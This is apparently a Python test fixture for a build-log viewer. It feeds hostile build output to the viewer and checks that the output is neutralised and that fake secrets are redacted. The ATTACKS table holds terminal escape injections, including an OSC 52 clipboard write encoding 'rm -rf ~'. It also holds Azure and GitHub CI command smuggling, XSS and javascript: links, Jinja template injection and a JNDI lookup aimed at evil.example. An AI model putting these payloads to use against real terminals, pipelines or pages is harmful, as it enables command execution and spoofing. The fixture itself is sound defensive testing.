"""What a hostile build says: lines that attack whoever shows them, made-up secrets, and logs that hold them."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from datetime import timedelta

from msgspec.structs import replace

from aibtui.cli.rulefiles import built_in_rules
from aibtui.core.build import Output
from aibtui.core.monitor import Monitor
from aibtui.core.polls import Status, Template
from aibtui.core.updates import Update
from aibtui.sources.whole import Whole
from tests.core.logs import START, Log

HARMLESS = "Nothing is wrong with this line"
LONG = "x" * 300_000
ATTACKS = {
    "terminal": "\x1b]52;c;cm0gLXJmIH4=\x07 \x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\ \x1b]0;t\x07 \x1b[2Jred",
    "C1 and strings": "\x9b2J \x9d52;c;cm0gLXJmIH4=\x9c \x90q\x9c \x85 \x1bPq#0;2\x1b\\ \x1b_x\x1b\\ \x1b^x\x1b\\",
    "bidi": "exe.\u202egpj \u2066x\u2069 pass\u200bword \ufeff one\u2028two\u2029three\x0bfour\x0cfive",
    "returns and NUL": "10 %\r::error::x\rdone a\x00b\x7fc\x08d",
    "markup": "[/x] [@click=app.quit]go[/] [red]x [data: /m?x=-609b-] </code></details><script>alert(1)</script>",
    "Markdown": "``` ~~~ </details> [a](javascript:alert(1)) ![b](https://evil.example/x.png) @everyone <!channel>",
    "Azure command": "##vso[task.setvariable variable=PATH]x ##[error]y",
    "Azure, hidden": "#\u034f#vso[task.complete result=Succeeded]x \uff03\uff03vso[task.complete]y",
    "GitHub command": "::error::x",
    "GitHub path": "\u034f::add-path::/tmp/evil",
    "escaped": "a%0D%0A::error::x ]##vso[task.complete]y",
    "template": "{{ cycler.__init__.__globals__ }} {% raw %} ${jndi:ldap://evil.example/x} %s {0.__class__} =1+1",
    "long": LONG,
    "bytes": "\udc9b2J \udcff",
}
UTF_16 = "password of a script that PowerShell wrote as UTF-16".encode("utf-16-le")

_NAME = 500  # characters; no name in Azure is longer
_WORD = "Yk3dQ0x9v7bM2nLp4RsT6uWzA8cE1fGh5JjK0lNoPqQ"
SECRETS = {
    "SAS": (f"GET https://stimages.blob.core.windows.net/apps/x.zip?sv=2024-11-04&sig={_WORD}%3D&se=2026", _WORD),
    "account key": (f"DefaultEndpointsProtocol=https;AccountName=st;AccountKey={_WORD}{_WORD}==;", _WORD),
    "web token": (f"got eyJhbGciOiJSUzI1NiJ9.eyJhdWQiOiJhcm0ifQ.{_WORD} back", "eyJhdWQiOiJhcm0ifQ"),
    "authorization": (f'curl -H "Authorization: Bearer {_WORD}" https://a.example', _WORD),
    "private key": ("-----BEGIN RSA PRIVATE KEY----- MIIEpAIBAAKCAQEA7f -----END RSA PRIVATE KEY-----", "MIIEpAIBAA"),
    "URL user": ("git clone https://deploy:Hunter2-of-git@git.example/r.git", "Hunter2-of-git"),
    "password": ("net use Z: /user:build password=Sup3r.Secret-9", "Sup3r.Secret-9"),
    "DevOps token": (f"az devops login with {'a1B2c3D4' * 9}aaaaAZDOx1y2", "a1B2c3D4a1B2"),
    "GitHub token": (f"gh auth with ghp_{'a1B2c3D4e5F6' * 3}", "a1B2c3D4e5F6"),
    "Entra secret": ("az login -p aB38Q~Q7rS9tU1vW3xY5zA7bC9dE1fG3hI5jK7lM", "Q7rS9tU1vW3x"),
}
"""By kind: a line with it, and a part of its value that must be nowhere."""


@dataclass(frozen=True)
class Build:
    """A build that says one line wherever something remote stands: its Updates and its log; `name` is all its names."""

    line: str
    name: str
    log: bytes
    updates: Sequence[Update]

    @property
    def last(self) -> Update:
        return self.updates[-1]


def log_saying(*lines: str) -> bytes:
    """A build whose scripts print these lines, and fail with each; between them a full disk, NUL and UTF-16."""
    name = lines[0][:200].replace("\n", " ")
    log = Log().prepare("file", "powershell", "powershell", "powershell").hidden_upload()
    log.powershell(f"C:\\{name}.ps1")
    for line in lines:
        log.out(line).wait(1).raw(line)
    log.returned(0).powershell(f"{name}.ps1").out(f"tar: {lines[0]}: No space left on device")
    for line in lines:
        log.out(f"C:\\x.ps1 : {line}").out("    + CategoryInfo          : x")
    log.returned(3).fail(f"Script exited with non-zero exit status: 3. {lines[0]}")
    text = "\n".join(log.rows[:-4]).encode("utf-8", "surrogateescape")
    return text + b"\n" + UTF_16 + b"\n" + "\n".join(log.rows[-4:]).encode("utf-8", "surrogateescape") + b"\n"


def build_saying(line: str, name: str | None = None) -> Build:
    """The build, with the line also in what Azure tells of it, and in its names unless one is given."""
    name = line[:_NAME] if name is None else name
    monitor = Monitor(built_in_rules())
    data = log_saying(line)
    updates = [_remote(monitor.feed(poll), line, name) for poll in Whole(log=data).polls()]
    return Build(line, name, data, updates)


def _remote(update: Update, line: str, name: str) -> Update:
    short = line[:_NAME]
    template = Template(id=name, name=name, location=name, source=name, vm_size=name, staging_group=name)
    status = Status("Failed", name, START, START + timedelta(hours=1), line, template=template, provisioning_error=line)
    build = update.build
    steps = tuple(replace(step, name=step.name and short, activity=step.activity and short) for step in build.steps)
    build = replace(build, status=status, message=line, steps=steps, output=Output(3, None, short))
    transport = replace(update.transport, reason=short, remedy=short)
    return replace(update, build=build, transport=transport)
